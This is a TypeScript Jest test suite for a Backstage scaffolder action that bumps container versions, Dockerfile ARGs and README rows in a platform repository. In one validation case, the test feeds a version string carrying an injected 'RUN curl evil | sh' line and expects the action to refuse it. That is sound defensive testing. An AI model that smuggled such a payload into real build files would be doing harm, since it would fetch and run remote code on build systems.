import { mockCredentials, mockServices } from '@backstage/backend-test-utils';
import { ConfigReader } from '@backstage/config';
import { NotFoundError } from '@backstage/errors';
import { createMockActionContext } from '@backstage/plugin-scaffolder-node-test-utils';
import { parseContainerYaml } from '@dockyard/plugin-containers-common';
import fs from 'node:fs/promises';
import path from 'node:path';
import { Readable } from 'node:stream';
import { GuestPolicy } from '../config';
import {
  LocalPlatformRepository,
  PlatformRepository,
  UrlPlatformRepository,
} from '../platform';
import {
  changedLines,
  REPO_ROOT,
  snapshotTree,
  startTestServer,
  tempDir,
} from '@dockyard/test-utils';
import {
  createCheckpointStore,
  createPlatform,
} from '../__testUtils__/platform';
import { createContainersBumpAction } from './bump';

describe('containers:bump', () => {
  let platformRoot: string;
  let workspace: string;
  let platform: PlatformRepository;
  let readme: string;

  beforeEach(async () => {
    // The repository's own README: its container table has a trino row.
    readme = await fs.readFile(path.join(REPO_ROOT, 'README.md'), 'utf8');
    platformRoot = await createPlatform({ readme });
    workspace = await tempDir('workspace');
    platform = new LocalPlatformRepository(platformRoot);
  });
  afterEach(async () => {
    await fs.rm(platformRoot, { recursive: true, force: true });
    await fs.rm(workspace, { recursive: true, force: true });
  });

  function run(
    input: Record<string, unknown>,
    extra: Record<string, unknown> = {},
    guests?: GuestPolicy,
  ) {
    const action = createContainersBumpAction({
      platform: () => platform,
      config: new ConfigReader({}),
      guests,
    });
    const ctx = {
      ...createMockActionContext({
        input: input as any,
        workspacePath: workspace,
      }),
      ...extra,
    };
    return { ctx, done: action.handler(ctx as any) };
  }

  const outputs = (ctx: { output: unknown }) =>
    Object.fromEntries((ctx.output as jest.Mock).mock.calls);

  it('writes only the changed files into the workspace, at their platform paths, and says what to publish', async () => {
    const platformBefore = await snapshotTree(platformRoot);
    const { ctx, done } = run({ slug: 'trino', version: '478' });
    await done;

    const out = outputs(ctx);
    expect(out).toMatchObject({
      slug: 'trino',
      entityRef: 'component:default/trino',
      name: 'Trino',
      from: '476',
      to: '478',
      change: 'major',
      files: [
        'containers/trino/container.yaml',
        'containers/trino/Dockerfile',
        'README.md',
      ],
      title: 'Bump Trino from 476 to 478',
      branchName: 'dockyard/bump-trino-478',
    });
    expect(out.commitMessage).toMatch(/^Bump Trino from 476 to 478\n\n/);
    expect(out.body).toContain('**Trino** (`trino`): `476` → `478` (major)');
    expect(out.body).toContain('Major version bump');
    expect(out.body).toContain(
      '[rollback notes](docs/runbooks/iceberg-catalog-rollback.md)',
    );

    // The workspace holds the three files and nothing else.
    expect(Object.keys(await snapshotTree(workspace)).sort()).toEqual([
      'README.md',
      'containers/',
      'containers/trino/',
      'containers/trino/Dockerfile',
      'containers/trino/container.yaml',
    ]);
    const read = (root: string, file: string) =>
      fs.readFile(path.join(root, file), 'utf8');
    const yamlFile = 'containers/trino/container.yaml';
    expect(
      changedLines(
        await read(platformRoot, yamlFile),
        await read(workspace, yamlFile),
      ),
    ).toEqual(['-  current: "476"', '+  current: "478"']);
    expect(
      changedLines(
        await read(platformRoot, 'containers/trino/Dockerfile'),
        await read(workspace, 'containers/trino/Dockerfile'),
      ),
    ).toEqual([
      '-ARG TRINO_VERSION=476',
      '+ARG TRINO_VERSION=478',
      '-ARG TRINO_VERSION=476',
      '+ARG TRINO_VERSION=478',
    ]);
    const readmeChange = changedLines(
      readme,
      await read(workspace, 'README.md'),
    );
    expect(readmeChange).toHaveLength(2);
    expect(readmeChange[1]).toMatch(
      /^\+\| \[Trino\]\(containers\/trino\/\) \|.*\| 478 \|/,
    );
    expect(
      parseContainerYaml(await read(workspace, yamlFile), {
        file: yamlFile,
        folderName: 'trino',
      }).ok,
    ).toBe(true);

    // The platform itself is left as it was.
    expect(await snapshotTree(platformRoot)).toEqual(platformBefore);
  });

  it('reads a platform repository on GitHub through the urlReader, linking the rollback notes there', async () => {
    const files = async (dir: string) => {
      const out: Array<{ path: string; content: () => Promise<Buffer> }> = [];
      const walk = async (sub: string) => {
        for (const entry of await fs.readdir(path.join(dir, sub), {
          withFileTypes: true,
        })) {
          const rel = sub ? `${sub}/${entry.name}` : entry.name;
          if (entry.isDirectory()) await walk(rel);
          else
            out.push({
              path: rel,
              content: () => fs.readFile(path.join(dir, rel)),
            });
        }
      };
      await walk('');
      return out;
    };
    const base = 'https://github.com/example/data-platform/tree/main';
    const urlReader = mockServices.urlReader.mock({
      readTree: async (url: string) => {
        if (url !== `${base}/containers/trino`) {
          throw new NotFoundError(url);
        }
        const tree = await files(path.join(platformRoot, 'containers/trino'));
        return { files: async () => tree } as any;
      },
      readUrl: async (url: string) => {
        if (url !== `${base}/README.md`) throw new NotFoundError(url);
        return {
          buffer: async () => Buffer.from(readme),
          stream: () => Readable.from(readme),
        } as any;
      },
    });
    platform = new UrlPlatformRepository(base, urlReader);
    const temporary = await tempDir('scratch');
    const { ctx, done } = run(
      { slug: 'trino', version: '478' },
      { createTemporaryDirectory: async () => temporary },
    );
    await done;
    const out = outputs(ctx);
    expect(out.files).toEqual([
      'containers/trino/container.yaml',
      'containers/trino/Dockerfile',
      'README.md',
    ]);
    expect(out.body).toContain(
      '[rollback notes](https://github.com/example/data-platform/blob/main/docs/runbooks/iceberg-catalog-rollback.md)',
    );
    await fs.rm(temporary, { recursive: true, force: true });

    // A container the repository does not have.
    const missing = run({ slug: 'flink', version: '2.1.1' });
    await expect(missing.done).rejects.toThrow(
      'containers/flink is not in the platform repository (https://github.com/example/data-platform/tree/main)',
    );
  });

  it.each([
    [{ slug: '../trino', version: '478' }, 'Cannot bump the container:'],
    [{ slug: 'Trino', version: '478' }, 'Cannot bump the container:'],
    [
      { slug: 'trino', version: '478\nRUN curl evil | sh' },
      'Cannot bump trino: "478\\nRUN curl evil | sh" is not a version',
    ],
    [{ slug: 'trino', version: '4 78' }, 'is not a version'],
    [
      { slug: 'flink', version: '2.1.1' },
      'Cannot bump flink to 2.1.1: no container "flink"',
    ],
    [
      { slug: 'trino', version: '476' },
      'trino is already at 476 in the platform repository',
    ],
  ])('refuses %j, writing nothing', async (input, message) => {
    const platformBefore = await snapshotTree(platformRoot);
    const { done } = run(input);
    await expect(done).rejects.toThrow(message);
    expect(await snapshotTree(workspace)).toEqual({});
    expect(await snapshotTree(platformRoot)).toEqual(platformBefore);
  });

  it('refuses a guest before reading the platform, unless guests are allowed', async () => {
    const guest = {
      getInitiatorCredentials: async () =>
        mockCredentials.user('user:development/guest'),
    };
    const read = jest.fn(() => platform);
    const refused = createContainersBumpAction({
      platform: read,
      config: new ConfigReader({}),
    }).handler({
      ...createMockActionContext({
        input: { slug: 'trino', version: '478' },
        workspacePath: workspace,
      }),
      ...guest,
    } as any);
    await expect(refused).rejects.toThrow(
      'containers:bump: guests may not bump containers on this portal (the task was started by user:development/guest)',
    );
    expect(read).not.toHaveBeenCalled();

    const { done } = run({ slug: 'trino', version: '478' }, guest, {
      allowGuests: true,
      guestUserRefs: ['user:development/guest'],
    });
    await expect(done).resolves.toBeUndefined();
  });

  it('keeps its result in the checkpoint: a retry after the platform moved writes the same files', async () => {
    const store = createCheckpointStore();
    const first = run(
      { slug: 'trino', version: '478' },
      { checkpoint: store.checkpoint },
    );
    await first.done;
    const written = await snapshotTree(workspace);

    // Published meanwhile: the platform is at 478, and the retried task has a fresh workspace.
    await fs.copyFile(
      path.join(workspace, 'containers/trino/container.yaml'),
      path.join(platformRoot, 'containers/trino/container.yaml'),
    );
    await fs.rm(workspace, { recursive: true, force: true });
    await fs.mkdir(workspace);
    const retry = run(
      { slug: 'trino', version: '478' },
      { checkpoint: store.checkpoint },
    );
    await retry.done;
    expect(await snapshotTree(workspace)).toEqual(written);
    expect(outputs(retry.ctx)).toEqual(outputs(first.ctx));
  });

  it('does the same in a dry run: the workspace gets the files, the platform nothing', async () => {
    const platformBefore = await snapshotTree(platformRoot);
    const { ctx, done } = run(
      { slug: 'trino', version: '477' },
      { isDryRun: true },
    );
    await done;
    expect(outputs(ctx).title).toBe('Bump Trino from 476 to 477');
    expect(
      await fs.readFile(
        path.join(workspace, 'containers/trino/container.yaml'),
        'utf8',
      ),
    ).toContain('current: "477"');
    expect(await snapshotTree(platformRoot)).toEqual(platformBefore);
  });

  it('moves a companion: its build arg and the Dockerfile ARG, on a branch of its own', async () => {
    const spark = `name: Spark
slug: spark
summary: Spark with Iceberg.
maintainers:
  - name: Test Maintainer
    email: test@example.com
version:
  strategy: manual
  current: "4.0.1"
  companions:
    - name: iceberg-spark-runtime
      current: "!build.args.ICEBERG_VERSION"
      strategy: manual
build:
  args:
    ICEBERG_VERSION: "1.9.2"   # the Iceberg runtime jar
`;
    await fs.mkdir(path.join(platformRoot, 'containers/spark'));
    await fs.writeFile(
      path.join(platformRoot, 'containers/spark/container.yaml'),
      spark,
    );
    await fs.writeFile(
      path.join(platformRoot, 'containers/spark/Dockerfile'),
      'FROM scratch\nARG ICEBERG_VERSION=1.9.2\n',
    );
    const { ctx, done } = run({
      slug: 'spark',
      version: '1.10.0',
      companion: 'iceberg-spark-runtime',
    });
    await done;
    expect(outputs(ctx)).toMatchObject({
      from: '4.0.1',
      to: '4.0.1',
      files: ['containers/spark/container.yaml', 'containers/spark/Dockerfile'],
      title: 'Bump iceberg-spark-runtime in Spark from 1.9.2 to 1.10.0',
      branchName: 'dockyard/bump-spark-iceberg-spark-runtime-1.10.0',
    });
    expect(
      await fs.readFile(
        path.join(workspace, 'containers/spark/container.yaml'),
        'utf8',
      ),
    ).toBe(spark.replace('"1.9.2"', '"1.10.0"'));

    const unknown = run({ slug: 'spark', version: '1.10.0', companion: 'x' });
    await expect(unknown.done).rejects.toThrow(
      'Cannot bump spark to x 1.10.0: containers/spark/container.yaml has no companion "x"',
    );
    const noVersion = run({
      slug: 'spark',
      companion: 'iceberg-spark-runtime',
    });
    await expect(noVersion.done).rejects.toThrow(
      'Cannot bump spark: say which version iceberg-spark-runtime goes to (version)',
    );
  });

  it('re-pins a rebuilt base image with base: true', async () => {
    const rebuilt = `sha256:${'e'.repeat(64)}`;
    const registry = await startTestServer((req, res) => {
      if (req.url === '/v2/library/eclipse-temurin/manifests/24-jre-noble') {
        res.writeHead(200, { 'docker-content-digest': rebuilt });
      } else {
        res.writeHead(404);
      }
      res.end();
    });
    const host = registry.host;
    try {
      const action = createContainersBumpAction({
        platform: () => platform,
        config: new ConfigReader({
          containers: {
            drift: {
              allowedHosts: [host],
              retries: 0,
              registries: { 'docker.io': { baseUrl: `http://${host}` } },
            },
          },
        }),
      });
      const ctx = createMockActionContext({
        input: { slug: 'trino', base: true },
        workspacePath: workspace,
      });
      await action.handler(ctx as any);
      const out = outputs(ctx as any);
      expect(out).toMatchObject({
        from: '476',
        to: '476',
        files: [
          'containers/trino/container.yaml',
          'containers/trino/Dockerfile',
        ],
        title: 'Re-pin the base image of Trino (rebuilt upstream)',
        branchName: 'dockyard/bump-trino-base-eeeeeeeeeeee',
      });
      expect(out.body).toContain('Base image rebuilt upstream');
      expect(
        await fs.readFile(
          path.join(workspace, 'containers/trino/Dockerfile'),
          'utf8',
        ),
      ).toContain(
        `ARG BASE_IMAGE=docker.io/library/eclipse-temurin:24-jre-noble@${rebuilt}`,
      );
    } finally {
      await registry.close();
    }
  });
});
